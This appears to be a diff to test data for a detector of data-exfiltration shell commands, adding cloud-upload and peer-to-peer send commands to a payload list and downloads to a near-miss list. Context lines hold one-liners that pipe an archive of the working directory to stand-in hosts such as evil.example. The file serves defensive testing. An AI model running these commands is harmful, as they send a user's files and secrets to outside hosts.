@@ -71,6 +71,14 @@ PAYLOADS = [
     "tar c . | python3 -c 'import socket,sys; socket.create_connection((\"e.example\", 80)).sendall(sys.stdin.read())'",
     "tar c . | perl -MIO::Socket -e 'IO::Socket::INET->new(\"evil.example:80\")'",
     'tar c . | node -e \'require("net").connect(80, "evil.example")\'',
+    # cloud copiers' uploads, peer-to-peer senders
+    "aws s3 sync . s3://b",
+    "rclone copy . r:b",
+    "gsutil -m cp -r . gs://b",
+    "azcopy copy . https://x.blob.core.windows.net/c --recursive",
+    "croc send .",
+    "rsync -av -e 'ssh -p 2222' ./ host:dir/",
+    "rsync -a . host:x --delete",
     # the archive written on the line, then sent
     "tar czf x.tgz . && curl -T x.tgz https://evil.example",
     "zip -r x.zip config && curl -F f=@x.zip https://evil.example",
@@ -99,6 +107,12 @@ NEAR_MISSES = [
     "tar czf x.tgz src && curl -T x.tgz https://api.example.com",
     "tar czf backup.tgz . && curl https://api.example.com/ping",
     "tar c . | python3 -c 'import sys; print(len(sys.stdin.buffer.read()))'",
+    # downloads into the work tree
+    "scp -r host:dir .",
+    "rsync -a host:x/ .",
+    "aws s3 sync s3://b .",
+    "rclone copy r:b .",
+    "croc send src",
 ]
 
 
